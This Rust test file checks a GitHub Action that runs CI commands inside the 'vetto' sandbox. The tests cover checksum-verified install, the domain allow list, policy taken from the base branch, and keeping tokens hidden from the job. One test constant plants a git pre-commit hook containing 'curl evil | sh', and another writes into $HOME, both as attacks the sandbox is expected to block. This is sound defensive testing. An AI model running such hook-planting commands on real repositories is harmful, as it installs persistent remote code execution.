//! The composite action (`action.yml`) run as the GitHub runner runs it
//! (`util/gha.rs`): expressions, `if:`, `bash -e` steps, file commands; the
//! `uses:` steps are recorded, not run. vetto is installed through the
//! action's own install step: the "release" is a local directory
//! (`VETTO_RELEASE_URL=file://…`, the documented mirror override) holding
//! the binary under test, and the action's manifest names its SHA-256.
//!
//! Every job runs as the unprivileged user of `util` (the steps and vetto
//! alike), in a fresh world whose project is the workspace.

// Unix modes and tests/util (Unix users and signals).
#![cfg(unix)]
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests: a failed unwrap is a failed test, with its location"
)]

mod util;

#[path = "util/gha.rs"]
mod gha;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use gha::{ActionRun, Job, Outcome};
use serde_json::{Value, json};
use util::{Feature, Tier, World};

const VERSION: &str = env!("CARGO_PKG_VERSION");

/// The release asset of this host, as the install step names it.
fn asset() -> String {
    let target = match std::env::consts::ARCH {
        "x86_64" => "x86_64-unknown-linux-musl",
        "aarch64" => "aarch64-unknown-linux-musl",
        other => panic!("no release asset for {other}"),
    };
    format!("vetto-{target}")
}

/// A copy of the action (what `uses: vetto/action@v1` checks out)
/// in the world, with `manifest` as its dist/checksums.txt; its source
/// too when `with_source` (only a build from source reads it).
fn action_copy(w: &World, manifest: &str, with_source: bool) -> PathBuf {
    let src = Path::new(env!("CARGO_MANIFEST_DIR"));
    let dst = w.root.join("action");
    std::fs::create_dir_all(dst.join("dist")).unwrap();
    let mut files = vec!["action.yml", "Cargo.toml"];
    if with_source {
        files.extend(["Cargo.lock", "src", "templates", "policies"]);
    }
    let st = Command::new("cp")
        .arg("-r")
        .args(files.iter().map(|f| src.join(f)))
        .arg(&dst)
        .status()
        .unwrap();
    assert!(st.success());
    std::fs::write(dst.join("dist/checksums.txt"), manifest).unwrap();
    dst
}

/// A local "release" of the binary under test (made once per test
/// process, next to `util::vetto_bin`) and its SHA-256.
fn release() -> &'static (PathBuf, String) {
    static RELEASE: OnceLock<(PathBuf, String)> = OnceLock::new();
    RELEASE.get_or_init(|| {
        let bin = util::vetto_bin();
        let base = util::vetto_bin_dir().join("release");
        let dir = base.join(format!("v{VERSION}"));
        std::fs::create_dir_all(&dir).unwrap();
        let _ = std::fs::remove_file(dir.join(asset()));
        std::fs::hard_link(bin, dir.join(asset())).unwrap();
        let out = Command::new("sha256sum").arg(bin).output().unwrap();
        assert!(out.status.success());
        let sha = String::from_utf8(out.stdout).unwrap()[..64].to_string();
        (base, sha)
    })
}

/// A job of the action installed from the local release, whose manifest
/// line gives `sha` (the real one when `None`).
fn job_with_sha<'a>(w: &'a World, run: &str, sha: Option<&str>) -> Job<'a> {
    let (base, real) = release();
    let manifest = format!(
        "# test release\n{VERSION} {} {}\n",
        asset(),
        sha.unwrap_or(real)
    );
    let mut j = Job::new(w, &action_copy(w, &manifest, false)).input("run", run);
    j.env.insert(
        "VETTO_RELEASE_URL".into(),
        format!("file://{}", base.display()),
    );
    j
}

/// A job of the action installed from the local release.
fn job<'a>(w: &'a World, run: &str) -> Job<'a> {
    job_with_sha(w, run, None)
}

fn report_dir(w: &World) -> PathBuf {
    w.project.join("vetto-report")
}

fn assert_passed(run: &ActionRun) {
    assert!(!run.failed, "the action failed\n{}", run.dump());
}

fn assert_failed_at_the_end(run: &ActionRun, code: &str) {
    assert!(run.failed, "the action passed\n{}", run.dump());
    let last = run.steps.last().unwrap();
    assert_eq!(last.name, "Fail on the exit status");
    assert_eq!(last.outcome, Outcome::Failure, "{}", run.dump());
    assert_eq!(
        last.out.as_ref().map(|o| o.code()),
        code.parse().ok(),
        "the step fails with the job's status\n{}",
        run.dump()
    );
    // Everything before it ran or was skipped by its condition; nothing failed.
    for s in &run.steps[..run.steps.len() - 1] {
        assert_ne!(s.outcome, Outcome::Failure, "{}\n{}", s.name, run.dump());
    }
}

/// The outputs every job that ran a session sets, and the upload steps
/// that received them.
fn assert_session_outputs(w: &World, run: &ActionRun) {
    let dir = report_dir(w);
    let tier = run.output("tier");
    assert!(
        ["full", "fs-only"].contains(&tier),
        "tier {tier:?}\n{}",
        run.dump()
    );
    assert!(
        run.output("violations").parse::<u64>().is_ok(),
        "{}",
        run.dump()
    );
    let sarif = dir.join("vetto.sarif");
    let html = dir.join("report.html");
    assert_eq!(
        run.output("sarif-file"),
        sarif.to_str().unwrap(),
        "{}",
        run.dump()
    );
    assert_eq!(run.output("report-file"), html.to_str().unwrap());
    assert!(sarif.is_file() && html.is_file());
    let artifact = run.uses("actions/upload-artifact");
    assert_eq!(artifact.outcome, Outcome::Success, "{}", run.dump());
    assert_eq!(artifact.with["path"], dir.to_str().unwrap());
    assert_eq!(artifact.with["name"], "vetto-report-test-0");
    // vetto appended its summary.md to the step summary.
    assert!(
        run.summary.contains("vetto: "),
        "no summary\n{}",
        run.summary
    );
}

/// Runs as an unprivileged user: a passing job with nothing blocked sets
/// every output, hands the SARIF and the reports to the upload steps, and
/// passes. vetto came from the "release", checked against the manifest.
#[test]
fn a_clean_job_sets_every_output_and_hands_the_reports_to_the_uploads() {
    require!(Feature::FsOnly);
    let w = World::new();
    let run = job(&w, "echo hello from the job").run();
    assert_passed(&run);
    assert_eq!(run.output("exit-code"), "0");
    assert_eq!(run.output("violations"), "0");
    assert_session_outputs(&w, &run);
    let sarif = run.uses("github/codeql-action/upload-sarif");
    assert_eq!(sarif.outcome, Outcome::Success);
    assert_eq!(sarif.with["sarif_file"], run.output("sarif-file"));
    assert_eq!(sarif.with["category"], "");
    assert!(run.summary.contains("vetto: clean"), "{}", run.summary);
    // The prebuilt path: no cache, no build.
    assert_eq!(run.uses("actions/cache").outcome, Outcome::Skipped);
    assert_eq!(
        run.step("Build vetto from the action's source").outcome,
        Outcome::Skipped
    );
    let install = run.step("Install vetto").out.as_ref().unwrap().stdout();
    assert!(install.contains("as dist/checksums.txt says"), "{install}");
    assert!(
        run.annotations_of("error").is_empty(),
        "{:?}",
        run.annotations
    );
    if std::env::var_os("VETTO_TEST_DUMP").is_some() {
        eprintln!("{}", run.dump());
    }
}

/// Runs as an unprivileged user: a binary whose SHA-256 is not the
/// manifest's is not installed, and nothing runs.
#[test]
fn a_release_binary_with_the_wrong_checksum_is_not_installed() {
    let w = World::new();
    let run = job_with_sha(&w, "echo never", Some(&"0".repeat(64))).run();
    assert!(run.failed);
    assert_eq!(
        run.step("Install vetto").outcome,
        Outcome::Failure,
        "{}",
        run.dump()
    );
    assert_eq!(run.step("Run in the sandbox").outcome, Outcome::Skipped);
    assert!(
        run.annotations_of("error")
            .iter()
            .any(|a| a.message.contains("SHA-256") && a.message.contains("not installed")),
        "{:?}",
        run.annotations
    );
    let bin_dir = w
        .root
        .join("runner-temp")
        .join(format!("vetto-{VERSION}/bin"));
    assert!(!bin_dir.join("vetto").exists() && !bin_dir.join("vetto.part").exists());
    assert_eq!(run.output("exit-code"), "");
}

/// Runs as an unprivileged user: without a prebuilt binary for the version
/// (the committed manifest has none yet), the action builds from its own
/// source with `cargo install --locked`, cached under a key over that
/// source — a change to the source changes the key. `cargo` here is a
/// stand-in that installs the binary under test.
#[test]
fn without_a_prebuilt_binary_the_build_is_cached_under_a_key_over_the_source() {
    require!(Feature::FsOnly);
    let w = World::new();
    let committed =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("dist/checksums.txt"))
            .unwrap();
    let action = action_copy(&w, &committed, true);
    let fake = w.root.join("fake-bin");
    let args_log = w.root.join("cargo-args");
    w.write(
        &fake.join("cargo"),
        &format!(
            "#!/bin/sh\nprintf '%s\\n' \"$@\" > {log}\nwhile [ \"$1\" != --root ]; do shift; done\nmkdir -p \"$2/bin\" && cp {bin} \"$2/bin/vetto\"\n",
            log = args_log.display(),
            bin = util::vetto_bin().display()
        ),
    );
    w.write(
        &fake.join("rustc"),
        "#!/bin/sh\necho 'host: x86_64-unknown-linux-gnu'\n",
    );
    for f in ["cargo", "rustc"] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(fake.join(f), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let run_once = || {
        let mut j = Job::new(&w, &action).input("run", "true");
        j.env
            .insert("PATH".into(), format!("{}:{}", fake.display(), util::PATH));
        j.run()
    };
    let first = run_once();
    assert_passed(&first);
    let cache = first.uses("actions/cache");
    assert_eq!(cache.outcome, Outcome::Success, "{}", first.dump());
    let root = w.root.join("runner-temp/vetto-build");
    assert_eq!(cache.with["path"], root.to_str().unwrap());
    let key = cache.with["key"].clone();
    let (os, arch) = (
        "Linux",
        if cfg!(target_arch = "aarch64") {
            "ARM64"
        } else {
            "X64"
        },
    );
    let hash = key
        .strip_prefix(&format!("vetto-{os}-{arch}-"))
        .unwrap_or_else(|| panic!("key {key}"));
    assert!(
        hash.len() == 64 && hash.bytes().all(|b| b.is_ascii_hexdigit()),
        "{key}"
    );
    let args = std::fs::read_to_string(&args_log).unwrap();
    let args: Vec<&str> = args.lines().collect();
    assert_eq!(
        args,
        [
            "install",
            "--locked",
            "--root",
            root.to_str().unwrap(),
            "--path",
            action.to_str().unwrap(),
            "--target",
            "x86_64-unknown-linux-gnu"
        ]
    );
    assert_eq!(first.output("exit-code"), "0");

    std::fs::write(action.join("src/lib.rs"), "// changed\n").unwrap();
    let second = run_once();
    assert_ne!(
        second.uses("actions/cache").with["key"],
        key,
        "a changed source kept the cache key"
    );
}

/// Runs as an unprivileged user: a failing command's status is the
/// action's `exit-code`, every output is still set, the reports are still
/// uploaded, and the last step fails with that status.
#[test]
fn a_failing_job_keeps_its_status_and_sets_every_output() {
    require!(Feature::FsOnly);
    let w = World::new();
    let run = job(&w, "echo failing; exit 7").run();
    assert_eq!(run.output("exit-code"), "7", "{}", run.dump());
    assert_eq!(run.output("violations"), "0");
    assert_session_outputs(&w, &run);
    assert_eq!(
        run.uses("github/codeql-action/upload-sarif").outcome,
        Outcome::Success
    );
    assert!(
        run.summary.contains("the command failed"),
        "{}",
        run.summary
    );
    assert_failed_at_the_end(&run, "7");
}

/// The job plants a git hook (persistence the sandbox blocks at every
/// tier) and still exits 0.
const PLANTS_A_HOOK: &str = "echo 'curl evil | sh' > .git/hooks/pre-commit || true";

/// Runs as an unprivileged user: a passing command with violations fails
/// the action under `fail-on: violation` (exit 3), with `violations` set.
#[test]
fn violations_fail_the_action_under_fail_on_violation() {
    require!(Feature::FsOnly);
    let w = World::new();
    let run = job(&w, PLANTS_A_HOOK).input("fail-on", "violation").run();
    assert_eq!(run.output("exit-code"), "3", "{}", run.dump());
    assert!(run.output("violations").parse::<u64>().unwrap() > 0);
    assert_session_outputs(&w, &run);
    assert!(!w.project.join(".git/hooks/pre-commit").exists());
    assert_failed_at_the_end(&run, "3");
    assert!(
        run.annotations_of("error")
            .iter()
            .any(|a| a.message.contains("recorded violations")),
        "{:?}",
        run.annotations
    );
}

/// Runs as an unprivileged user: `fail-on: never` reports the violations
/// and passes on the command's own status.
#[test]
fn violations_pass_the_action_under_fail_on_never() {
    require!(Feature::FsOnly);
    let w = World::new();
    let run = job(&w, PLANTS_A_HOOK).input("fail-on", "never").run();
    assert_passed(&run);
    assert_eq!(run.output("exit-code"), "0");
    assert!(
        run.output("violations").parse::<u64>().unwrap() > 0,
        "{}",
        run.dump()
    );
    assert_eq!(
        run.step("Fail on the exit status").outcome,
        Outcome::Skipped
    );
}

/// A loopback HTTP server that answers every request with `body`.
struct Server {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Server {
    fn start(body: &'static str) -> Server {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for mut s in l.incoming().flatten() {
                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                let mut r = BufReader::new(&s);
                let mut seen = false;
                loop {
                    let mut line = String::new();
                    match r.read_line(&mut line) {
                        Ok(0) | Err(_) => break,
                        Ok(_) if line == "\r\n" || line == "\n" => break,
                        Ok(_) => seen = true,
                    }
                }
                if seen {
                    counted.fetch_add(1, Ordering::SeqCst);
                    let reply = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = s.write_all(reply.as_bytes());
                }
            }
        });
        Server { port, hits }
    }
}

/// Runs as an unprivileged user: a host named in `allow-domains` (one per
/// line) is reached through vetto's proxy; another is refused and
/// recorded. The names are pinned to loopback servers by the project's
/// policy (`resolve`), the allow list comes from the input alone.
#[test]
fn allow_domains_reach_the_proxy_and_other_hosts_are_refused() {
    require!(Feature::FsOnly);
    let w = World::new();
    let allowed = Server::start("ALLOWED-BODY-51c9");
    let denied = Server::start("DENIED-BODY-e07a");
    let (a, d) = (allowed.port, denied.port);
    w.write(
        &w.project.join("vetto.toml"),
        "[network]\nresolve = [\"allowed.test:127.0.0.1\", \"denied.test:127.0.0.1\"]\n",
    );
    let script = format!(
        "curl -fsS -m 20 http://allowed.test:{a}/ && ! curl -fsS -m 20 http://denied.test:{d}/"
    );
    let run = job(&w, &script)
        .input(
            "allow-domains",
            &format!("  example.invalid\nallowed.test:{a}\n\n"),
        )
        .input("fail-on", "never")
        .run();
    assert_eq!(run.output("exit-code"), "0", "{}", run.dump());
    let out = run.step("Run in the sandbox").out.as_ref().unwrap();
    assert!(out.stdout().contains("ALLOWED-BODY-51c9"), "{}", run.dump());
    assert!(!out.stdout().contains("DENIED-BODY-e07a"));
    assert_eq!(
        (
            allowed.hits.load(Ordering::SeqCst),
            denied.hits.load(Ordering::SeqCst)
        ),
        (1, 0)
    );
    assert!(run.output("violations").parse::<u64>().unwrap() > 0);
    let log = std::fs::read_to_string(report_dir(&w).join("session.jsonl")).unwrap();
    let lines: Vec<Value> = log
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let decided = |host: &str, decision: &str| {
        lines
            .iter()
            .any(|l| l["type"] == "connection" && l["host"] == host && l["decision"] == decision)
    };
    assert!(decided("allowed.test", "allowed"), "{log}");
    assert!(decided("denied.test", "denied"), "{log}");
    assert_passed(&run);
}

/// The project's branches as its `origin` (a bare clone beside it): where
/// the action fetches the base branch's policy from.
fn publish_origin(w: &World) {
    let origin = w.root.join("origin.git");
    w.bare(&[
        "sh",
        "-c",
        &format!(
            "git clone -q --bare . {o} && git remote add origin {o}",
            o = origin.display()
        ),
    ])
    .run()
    .assert_success();
}

/// A project whose `origin` has `main` with the default policy, checked
/// out on a pull request branch whose `vetto.toml` makes `$HOME` writable.
fn widening_pull_request(w: &World) {
    publish_origin(w);
    let script = "set -e
         git checkout -q -b widen
         printf '[filesystem]\\nwrite = [\"${HOME}\"]\\n' > vetto.toml
         git add vetto.toml
         git commit -q -m 'widen the policy'";
    w.bare(&["sh", "-c", script]).run().assert_success();
}

const WRITES_HOME: &str = "echo pwned > \"$HOME/widened\" || true";

/// Runs as an unprivileged user: on a `pull_request`, the policy comes
/// from the base branch (fetched as `origin/main`), so the pull request's
/// own `vetto.toml`, which makes `$HOME` writable, does not apply. Control:
/// the same job on a push uses the working tree's policy and the write
/// lands.
fn a_pull_request_cannot_widen_its_own_policy(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    widening_pull_request(&w);
    let widened = w.home.join("widened");

    let push = job(&w, WRITES_HOME).input("tier", tier.name()).run();
    assert_passed(&push);
    assert!(
        widened.exists(),
        "control: on a push the widened policy applies\n{}",
        push.dump()
    );
    std::fs::remove_file(&widened).unwrap();

    let mut pr = job(&w, WRITES_HOME).input("tier", tier.name());
    pr.event_name = "pull_request".into();
    pr.base_ref = "main".into();
    pr.event = json!({"pull_request": {"head": {"repo": {"full_name": "octo/app"}}}});
    let run = pr.run();
    assert!(
        !widened.exists(),
        "the pull request widened its policy\n{}",
        run.dump()
    );
    // FS-ONLY records the refused creation (exit 3); FULL's home is a
    // mount that refuses it unseen.
    let code = run.output("exit-code");
    assert!(code == "0" || code == "3", "{}", run.dump());
    assert_eq!(run.failed, code == "3", "{}", run.dump());
    let check = run.step("Check the inputs").out.as_ref().unwrap().stdout();
    assert!(
        check.contains("from the base branch (origin/main)"),
        "{check}"
    );
    let log = std::fs::read_to_string(report_dir(&w).join("session.jsonl")).unwrap();
    let start: Value = serde_json::from_str(log.lines().next().unwrap()).unwrap();
    assert_eq!(start["policy"]["origin"]["kind"], "git-ref", "{start}");
    assert_eq!(start["policy"]["origin"]["ref"], "origin/main", "{start}");
    assert_eq!(start["policy"]["working_tree_differs"], true, "{start}");
}

at_every_tier!(a_pull_request_cannot_widen_its_own_policy);

/// Runs as an unprivileged user: a pull request from a fork gets no
/// `security-events: write`, so the SARIF upload is skipped with one
/// notice and the job does not fail; the reports are still uploaded.
#[test]
fn a_forked_pull_request_skips_the_sarif_upload_with_one_notice() {
    require!(Feature::FsOnly);
    let w = World::new();
    let mut j = job(&w, "echo from a fork");
    j.event_name = "pull_request".into();
    j.base_ref = "main".into();
    j.event = json!({"pull_request": {"head": {"repo": {"full_name": "mallory/app"}}}});
    // The base branch the policy is read from.
    publish_origin(&w);
    let run = j.run();
    assert_passed(&run);
    assert_eq!(
        run.uses("github/codeql-action/upload-sarif").outcome,
        Outcome::Skipped
    );
    let notices = run.annotations_of("notice");
    assert_eq!(notices.len(), 1, "{notices:?}");
    assert!(notices[0].message.contains("SARIF upload skipped"));
    assert_eq!(
        run.uses("actions/upload-artifact").outcome,
        Outcome::Success
    );
    assert_session_outputs(&w, &run);
}

/// Runs as an unprivileged user: when vetto refuses (exit 125, no
/// session), the reports an earlier run left in the workspace are not
/// handed on as this run's, the summary says no session ran, and the
/// action fails with 125.
#[test]
fn a_refusal_hands_on_no_stale_reports_and_fails_with_125() {
    require!(Feature::FsOnly);
    let w = World::new();
    let earlier = job(&w, "true").run();
    assert_passed(&earlier);
    assert!(report_dir(&w).join("vetto.sarif").is_file());
    let run = job(&w, "true").input("policy", "no-such-policy.toml").run();
    assert_eq!(run.output("exit-code"), "125", "{}", run.dump());
    for o in ["tier", "violations", "sarif-file", "report-file"] {
        assert_eq!(run.output(o), "", "{o}\n{}", run.dump());
    }
    assert_eq!(
        run.uses("github/codeql-action/upload-sarif").outcome,
        Outcome::Skipped
    );
    assert!(
        run.summary.contains("no sandbox session ran"),
        "{}",
        run.summary
    );
    assert_failed_at_the_end(&run, "125");
}

/// An empty `run` is refused by the action itself (GitHub does not enforce
/// `required: true`) before anything is installed.
#[test]
fn an_empty_run_input_is_refused_before_anything_is_installed() {
    let w = World::new();
    let run = job(&w, "  \n").run();
    assert!(run.failed);
    assert_eq!(run.step("Check the inputs").outcome, Outcome::Failure);
    assert_eq!(run.step("Install vetto").outcome, Outcome::Skipped);
    assert!(
        run.annotations_of("error")
            .iter()
            .any(|a| a.message.contains("'run' is required")),
        "{:?}",
        run.annotations
    );
}

/// A GitHub API stand-in for the comment step: lists no comments, accepts
/// one; records each request's line, authorization and body.
/// Each request the stand-in saw: its request line, authorization, body.
type Requests = Arc<std::sync::Mutex<Vec<(String, String, String)>>>;

fn comment_api() -> (String, Requests) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let mut r = BufReader::new(conn.try_clone().unwrap());
            let mut line = String::new();
            if r.read_line(&mut line).is_err() {
                continue;
            }
            let (mut auth, mut len) = (String::new(), 0usize);
            loop {
                let mut h = String::new();
                if r.read_line(&mut h).is_err() || h.trim().is_empty() {
                    break;
                }
                let (k, v) = h.split_once(':').unwrap_or((&h, ""));
                match k.trim().to_ascii_lowercase().as_str() {
                    "authorization" => auth = v.trim().to_owned(),
                    "content-length" => len = v.trim().parse().unwrap_or(0),
                    _ => {}
                }
            }
            let mut body = vec![0; len];
            let _ = std::io::Read::read_exact(&mut r, &mut body);
            let (status, reply) = if line.starts_with("GET") {
                (200, "[]".to_string())
            } else {
                (
                    201,
                    r#"{"id":7,"user":{"login":"github-actions[bot]"},"body":"x","html_url":"https://github.test/c/7"}"#.to_string(),
                )
            };
            log.lock().unwrap().push((
                line.trim().to_owned(),
                auth,
                String::from_utf8_lossy(&body).into_owned(),
            ));
            let _ = write!(
                conn,
                "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{reply}",
                reply.len()
            );
        }
    });
    (url, seen)
}

/// Runs as an unprivileged user: `comment: true` on a pull request
/// creates one comment with the session's summary through the API, with
/// the job's token — which the sandboxed command never sees.
#[test]
fn a_pull_request_gets_one_comment_with_the_summary_and_the_job_never_sees_the_token() {
    require!(Feature::FsOnly);
    let w = World::new();
    let (url, seen) = comment_api();
    let mut j = job(&w, "env > env-seen.txt; echo hello")
        .input("comment", "true")
        .input("upload-sarif", "false");
    j.event_name = "pull_request".into();
    j.base_ref = "main".into();
    j.event = json!({"pull_request": {"number": 12, "head": {"repo": {"full_name": "octo/app"}}}});
    j.env.insert("GITHUB_API_URL".into(), url);
    publish_origin(&w);
    let run = j.run();
    assert_passed(&run);
    assert_eq!(
        run.step("Comment on the pull request").outcome,
        Outcome::Success,
        "{}",
        run.dump()
    );
    let seen = seen.lock().unwrap().clone();
    let post: Vec<_> = seen
        .iter()
        .filter(|(l, _, _)| l.starts_with("POST"))
        .collect();
    assert_eq!(post.len(), 1, "{seen:?}");
    assert!(
        post[0].0.contains("/repos/octo/app/issues/12/comments"),
        "{seen:?}"
    );
    assert_eq!(post[0].1, format!("Bearer {}", gha::HARNESS_TOKEN));
    assert!(post[0].2.contains("vetto:report"), "{}", post[0].2);
    let env_seen = std::fs::read_to_string(w.project.join("env-seen.txt")).unwrap();
    assert!(
        !env_seen.contains(gha::HARNESS_TOKEN),
        "the sandboxed command saw the token"
    );
    assert!(
        !run.dump().contains(gha::HARNESS_TOKEN),
        "the token was printed"
    );
}

/// Without `comment: true`, or outside a pull request, no comment step runs.
#[test]
fn no_comment_is_written_unless_asked_on_a_pull_request() {
    require!(Feature::FsOnly);
    let w = World::new();
    let run = job(&w, "true").input("comment", "true").run();
    assert_passed(&run);
    assert_eq!(
        run.step("Comment on the pull request").outcome,
        Outcome::Skipped
    );
    let bad = job(&w, "true").input("comment", "yes").run();
    assert!(bad.failed, "{}", bad.dump());
}

/// Runs as an unprivileged user: a token named in `secrets` (one per line)
/// reaches the job as a placeholder of its shape only; the value, in the
/// step's environment, stays with vetto (its proxy would put it in HTTPS
/// requests to the named host).
#[test]
fn secrets_reach_the_job_as_placeholders_only() {
    require!(Feature::FsOnly);
    const VALUE: &str = "ghp_CANARYactionSecret0123456789abcdef";
    let w = World::new();
    let mut j = job(&w, "echo \"job-holds=$DEPLOY_TOKEN\"")
        .input("secrets", "  DEPLOY_TOKEN@deploy.example.test\n\n")
        .input("fail-on", "never");
    j.env.insert("DEPLOY_TOKEN".into(), VALUE.into());
    let run = j.run();
    assert_eq!(run.output("exit-code"), "0", "{}", run.dump());
    let out = run.step("Run in the sandbox").out.as_ref().unwrap();
    assert!(out.stdout().contains("job-holds=ghp_"), "{}", run.dump());
    assert!(!out.stdout().contains(VALUE) && !out.stderr().contains(VALUE));
    assert!(
        out.stderr()
            .contains("secrets: DEPLOY_TOKEN (to deploy.example.test)"),
        "{}",
        run.dump()
    );
    assert_passed(&run);
}
